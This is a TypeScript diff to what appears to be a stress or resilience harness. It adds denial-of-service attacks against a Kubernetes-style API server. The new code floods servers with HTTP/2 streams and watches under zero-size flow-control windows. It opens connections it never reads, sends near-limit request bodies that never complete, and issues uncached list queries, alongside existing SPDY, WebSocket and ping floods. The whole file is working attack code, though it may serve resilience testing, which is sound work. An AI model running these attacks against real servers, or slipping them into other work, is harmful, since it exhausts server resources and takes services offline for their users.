@@ -13,11 +13,13 @@ import {
   getHeaders,
   headerBlock,
   http2Frame,
+  leaveUnread,
   openTunnel,
   PREFACE,
   send,
   type Target,
 } from "./connections.ts";
+import { Windows } from "./windows.ts";
 
 /** An attack: `count` is how many connections, requests or frames it is worth. */
 export type Attack = (target: Target, random: SeededRandom, count: number) => Promise<void>;
@@ -62,6 +64,41 @@ const END_STREAM = 1;
 
 function get(target: Target, stream: number, path: string, flags = END_HEADERS | END_STREAM) {
   return http2Frame(HTTP2.headers, flags, stream, headerBlock(getHeaders(target, path)));
+}
+
+/** Windows of nothing: whatever is asked for has to wait. */
+const NO_WINDOWS = http2Frame(HTTP2.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
+/** Windows as wide as they can be. */
+const WIDE_OPEN = Buffer.concat([
+  PREFACE,
+  http2Frame(HTTP2.settings, 0, 0, Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff])),
+  http2Frame(HTTP2.window, 0, 0, Buffer.from([0x7f, 0, 0, 0])),
+]);
+const FRAME_BYTES = 16 * 1024;
+const MAPS = "/api/v1/namespaces/default/configmaps";
+/** A little below what the server takes of one request. */
+const BODY_BYTES = 2_900_000;
+const LARGE_BODY = Buffer.alloc(BODY_BYTES, "{");
+
+/** A list that hardly anybody else asks for: its bytes are not shared. */
+function listWithout(i: number): string {
+  return `/api/v1/configmaps?fieldSelector=metadata.name!=bulk-${i}`;
+}
+
+/** Does something with so many connections, and lets go of them when it is done with all. */
+async function together(
+  count: number,
+  act: (socket: Duplex) => Promise<unknown>,
+  open: () => Promise<Duplex>,
+): Promise<void> {
+  const sockets: Duplex[] = [];
+  try {
+    await times(count, async () => void sockets.push(await open()));
+    await Promise.all(sockets.map((socket) => act(socket).catch(() => {})));
+    await new Promise((next) => setTimeout(next, LET_GO_MS));
+  } finally {
+    for (const socket of sockets) socket.destroy();
+  }
 }
 
 const tls: Record<string, Attack> = {
@@ -149,11 +186,26 @@ const http1: Record<string, Attack> = {
   "HTTP/1.1: slow readers": (target, _random, count) =>
     times(count, () =>
       with_(connectTls(target, "http/1.1"), async (socket) => {
-        socket.pause();
+        leaveUnread(socket);
         const request = "GET /api/v1/configmaps HTTP/1.1\r\nHost: x\r\n\r\n";
         await send(socket, Buffer.from(request.repeat(20)));
         await new Promise((next) => setTimeout(next, LET_GO_MS));
       })),
+  "HTTP/1.1: different lists that are not read": (target, _random, count) =>
+    times(count, (i) =>
+      with_(connectTls(target, "http/1.1"), async (socket) => {
+        leaveUnread(socket);
+        for (let j = 0; j < 20; j++) {
+          const request = `GET ${listWithout((20 * i + j) % 200)} HTTP/1.1\r\nHost: x\r\n\r\n`;
+          if (!await send(socket, Buffer.from(request))) return;
+        }
+        await new Promise((next) => setTimeout(next, LET_GO_MS));
+      })),
+  "HTTP/1.1: large bodies that do not end": (target, _random, count) =>
+    together(count, (socket) => {
+      const head = `POST ${MAPS} HTTP/1.1\r\nHost: x\r\nContent-Length: ${BODY_BYTES + 1}\r\n\r\n`;
+      return send(socket, Buffer.concat([Buffer.from(head), LARGE_BODY]));
+    }, () => connectTls(target, "http/1.1")),
 };
 
 const http2: Record<string, Attack> = {
@@ -213,9 +265,7 @@ const http2: Record<string, Attack> = {
   "HTTP/2: streams that are not read": (target, _random, count) =>
     times(count, () =>
       with_(connectTls(target, "h2"), async (socket) => {
-        // Windows of nothing: whatever is asked for has to wait.
-        const setting = Buffer.from([0, 4, 0, 0, 0, 0]);
-        await send(socket, Buffer.concat([PREFACE, http2Frame(HTTP2.settings, 0, 0, setting)]));
+        await send(socket, Buffer.concat([PREFACE, NO_WINDOWS]));
         for (let i = 0; i < 200; i++) {
           if (!await send(socket, get(target, 2 * i + 1, "/api/v1/configmaps"))) return;
         }
@@ -223,17 +273,51 @@ const http2: Record<string, Attack> = {
   "HTTP/2: watches that are not read": (target, _random, count) =>
     times(count, () =>
       with_(connectTls(target, "h2"), async (socket) => {
-        const setting = Buffer.from([0, 4, 0, 0, 0, 0]);
-        await send(socket, Buffer.concat([PREFACE, http2Frame(HTTP2.settings, 0, 0, setting)]));
+        await send(socket, Buffer.concat([PREFACE, NO_WINDOWS]));
         for (let i = 0; i < 200; i++) {
           if (!await send(socket, get(target, 2 * i + 1, "/api/v1/configmaps?watch=true"))) return;
         }
       })),
+  "HTTP/2: different lists that are not read": (target, _random, count) =>
+    times(count, (i) =>
+      with_(connectTls(target, "h2"), async (socket) => {
+        leaveUnread(socket);
+        await send(socket, WIDE_OPEN);
+        for (let j = 0; j < 75; j++) {
+          if (!await send(socket, get(target, 2 * j + 1, listWithout((75 * i + j) % 200)))) return;
+        }
+        await new Promise((next) => setTimeout(next, LET_GO_MS));
+      })),
+  "HTTP/2: a thousand watches on each connection that are not read": (target, _random, count) =>
+    together(Math.ceil(count / 20), async (socket) => {
+      socket.resume();
+      await send(socket, Buffer.concat([PREFACE, NO_WINDOWS]));
+      for (let i = 0; i < 1_000; i++) {
+        if (!await send(socket, get(target, 2 * i + 1, "/api/v1/configmaps?watch=true"))) return;
+      }
+    }, () => connectTls(target, "h2")),
+  "HTTP/2: large bodies that do not end": (target, _random, count) =>
+    together(Math.ceil(count / 2), async (socket) => {
+      const windows = new Windows(socket);
+      await send(socket, PREFACE);
+      const streams = Array.from({ length: 10 }, (_, i) => 2 * i + 1);
+      const block = headerBlock({ ...getHeaders(target, MAPS), ":method": "POST" });
+      for (const stream of streams) {
+        await send(socket, http2Frame(HTTP2.headers, END_HEADERS, stream, block));
+      }
+      const data = LARGE_BODY.subarray(0, FRAME_BYTES);
+      for (let sent = 0; sent < BODY_BYTES; sent += FRAME_BYTES) {
+        for (const stream of streams) {
+          if (!await windows.take(stream, FRAME_BYTES)) return;
+          if (!await send(socket, http2Frame(HTTP2.data, 0, stream, data))) return;
+        }
+      }
+    }, () => connectTls(target, "h2")),
   "HTTP/2: pings and settings": (target, _random, count) =>
     times(Math.ceil(count / 1_000), () =>
       with_(connectTls(target, "h2"), async (socket) => {
         await send(socket, PREFACE);
-        socket.pause();
+        leaveUnread(socket);
         const ping = http2Frame(HTTP2.ping, 0, 0, Buffer.alloc(8));
         const settings = http2Frame(HTTP2.settings, 0, 0, Buffer.alloc(0));
         const both = Buffer.concat(Array.from({ length: 20 }, () => [ping, settings]).flat());
@@ -293,7 +377,7 @@ const tunnels: Record<string, Attack> = {
   "SPDY: endless data for nobody": (target, _random, count) =>
     times(count, () =>
       with_(openTunnel(target, "spdy"), async (socket) => {
-        socket.pause();
+        leaveUnread(socket);
         const frame = Buffer.alloc(8 + 1_000);
         for (let i = 1; i < 5_000; i++) {
           frame.writeUInt32BE(i);
@@ -323,7 +407,7 @@ const tunnels: Record<string, Attack> = {
   "WebSocket: pings without end": (target, _random, count) =>
     times(count, () =>
       with_(openTunnel(target, "channels"), async (socket) => {
-        socket.pause();
+        leaveUnread(socket);
         const ping = Buffer.concat([Buffer.from([0x89, 0xfd, 0, 0, 0, 0]), Buffer.alloc(125)]);
         const many = Buffer.concat(Array.from({ length: 100 }, () => ping));
         for (let i = 0; i < 1_000; i++) if (!await send(socket, many)) return;
